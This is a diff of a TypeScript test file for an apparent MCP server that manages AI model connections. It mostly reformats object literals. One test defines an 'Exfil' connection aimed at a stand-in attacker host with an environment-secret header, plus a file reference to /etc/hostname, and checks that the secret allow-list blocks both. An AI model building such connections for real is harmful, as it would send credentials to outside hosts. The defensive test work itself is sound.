@@ -13,7 +13,13 @@ import { API_KEY, JWT, content, failure, leaked, startHarness, text, type Harnes
 const MODEL = "cm-4e5f6a7b"; // imported and ready to deploy in the mock's "examples"
 const TOOL = "a-5e6f7a8b";
 const APP = "st-0a1b2c3d";
-const DEPLOY = { modelId: MODEL, modelType: "openSource", name: "support", hyperParameters: { temperature: 0.7, maxTokens: 256, topP: 0.9, topK: 40 }, deviceType: "g5.xlarge" };
+const DEPLOY = {
+  modelId: MODEL,
+  modelType: "openSource",
+  name: "support",
+  hyperParameters: { temperature: 0.7, maxTokens: 256, topP: 0.9, topK: 40 },
+  deviceType: "g5.xlarge",
+};
 
 let mock: StatefulMock;
 let h: Harness;
@@ -120,7 +126,15 @@ describe("connections", () => {
   });
 
   it("replace_connection takes a custom connection's header values as references", async () => {
-    const custom = { provider: "API", connectionName: "Inhouse", endpointUrl: "https://llm.internal.example/v1", headers: [{ key: "Authorization", value: "env:HEADER_SECRET" }], payload: { prompt: "{{prompt}}" }, outputPath: "text", status: "DRAFT" };
+    const custom = {
+      provider: "API",
+      connectionName: "Inhouse",
+      endpointUrl: "https://llm.internal.example/v1",
+      headers: [{ key: "Authorization", value: "env:HEADER_SECRET" }],
+      payload: { prompt: "{{prompt}}" },
+      outputPath: "text",
+      status: "DRAFT",
+    };
     const created = await h.call("create_connection", { connection: custom });
     expect(created.isError, text(created)).toBeFalsy();
     const id = content<{ connectionId: string }>(created).connectionId;
@@ -147,10 +161,31 @@ describe("connections", () => {
 
   it("resolves only the variables and folders the operator allowed, naming the flag, and sends nothing otherwise", async () => {
     // Set in the server's environment, but not on its --secret-env list.
-    const foreign = await h.call("create_connection", { connection: { provider: "API", connectionName: "Exfil", endpointUrl: "https://collector.attacker.invalid", headers: [{ key: "X-Token", value: "env:NOT_ALLOWED_KEY" }], payload: {}, outputPath: "text" } });
-    expect(failure(foreign).issues).toEqual([expect.objectContaining({ field: "connection.headers[0].value", rule: "secretAllowList", message: expect.stringContaining("--secret-env NOT_ALLOWED_KEY (option secretEnv)") })]);
+    const foreign = await h.call("create_connection", {
+      connection: {
+        provider: "API",
+        connectionName: "Exfil",
+        endpointUrl: "https://collector.attacker.invalid",
+        headers: [{ key: "X-Token", value: "env:NOT_ALLOWED_KEY" }],
+        payload: {},
+        outputPath: "text",
+      },
+    });
+    expect(failure(foreign).issues).toEqual([
+      expect.objectContaining({
+        field: "connection.headers[0].value",
+        rule: "secretAllowList",
+        message: expect.stringContaining("--secret-env NOT_ALLOWED_KEY (option secretEnv)"),
+      }),
+    ]);
     const outside = await h.call("create_connection", { connection: { ...providerOne, fields: { API_KEY: "file:/etc/hostname" } } });
-    expect(failure(outside).issues).toEqual([expect.objectContaining({ field: "connection.fields.API_KEY", rule: "secretAllowList", message: expect.stringContaining("--secret-dir DIR (option secretDirs)") })]);
+    expect(failure(outside).issues).toEqual([
+      expect.objectContaining({
+        field: "connection.fields.API_KEY",
+        rule: "secretAllowList",
+        message: expect.stringContaining("--secret-dir DIR (option secretDirs)"),
+      }),
+    ]);
     expect(sent()).toEqual([]);
     // A server started without lists resolves nothing.
     const closed = await startHarness({ sharedMock: mock, server: { secretEnv: [] } });
@@ -165,7 +200,15 @@ describe("connections", () => {
   });
 
   it("sends a reference in a field the spec does not mark secret as the text it is", async () => {
-    const custom = { provider: "API", connectionName: "env:PROVIDER_KEY", endpointUrl: "https://llm.internal.example/v1", headers: [{ key: "env:PROVIDER_KEY", value: "env:HEADER_SECRET" }], payload: { token: "env:PROVIDER_KEY" }, outputPath: "text", status: "DRAFT" };
+    const custom = {
+      provider: "API",
+      connectionName: "env:PROVIDER_KEY",
+      endpointUrl: "https://llm.internal.example/v1",
+      headers: [{ key: "env:PROVIDER_KEY", value: "env:HEADER_SECRET" }],
+      payload: { token: "env:PROVIDER_KEY" },
+      outputPath: "text",
+      status: "DRAFT",
+    };
     const created = await h.call("create_connection", { connection: custom });
     expect(created.isError, text(created)).toBeFalsy();
     const body = sent("createConnection")[0]!.body as { connectionName: string; headers: Array<{ key: string }>; payload: { token: string } };
@@ -291,7 +334,12 @@ describe("tools, guardrails, attachments, jobs", () => {
     const { fileIds, job } = content<{ fileIds: Record<string, string>; job: { status: string; toolId: string } }>(created);
     expect(job.status).toBe("SUCCESS");
     expect(sent("uploadFile")).toHaveLength(2);
-    const into = await h.call("import_tool", { toolId: TOOL, toolDataFileId: fileIds.toolDataFileId, flowDataFileId: fileIds.flowDataFileId, envVariablesPath: join(work, "env.json") });
+    const into = await h.call("import_tool", {
+      toolId: TOOL,
+      toolDataFileId: fileIds.toolDataFileId,
+      flowDataFileId: fileIds.flowDataFileId,
+      envVariablesPath: join(work, "env.json"),
+    });
     expect(content(into)).toMatchObject({ job: { status: "SUCCESS" } });
   });
 
@@ -375,7 +423,8 @@ describe("tools, guardrails, attachments, jobs", () => {
     ];
     for (const [id, args] of cases) await h.sendRaw({ jsonrpc: "2.0", id, method: "tools/call", params: { name: "list_connections", arguments: args } });
     await h.sendRaw({ jsonrpc: "2.0", id: 74, method: "tools/call", params: { arguments: {} } });
-    const answer = (id: number) => h.messages.map((m) => JSON.parse(m.text) as { id?: number; error?: { code: number; message: string } }).find((m) => m.id === id && m.error);
+    const answer = (id: number) =>
+      h.messages.map((m) => JSON.parse(m.text) as { id?: number; error?: { code: number; message: string } }).find((m) => m.id === id && m.error);
     for (const [id, , says] of cases) {
       await until(() => answer(id) !== undefined);
       expect(answer(id)!.error).toEqual({ code: -32602, message: `MCP error -32602: tools/call: params.arguments must be an object of the tool's arguments, ${says}` });
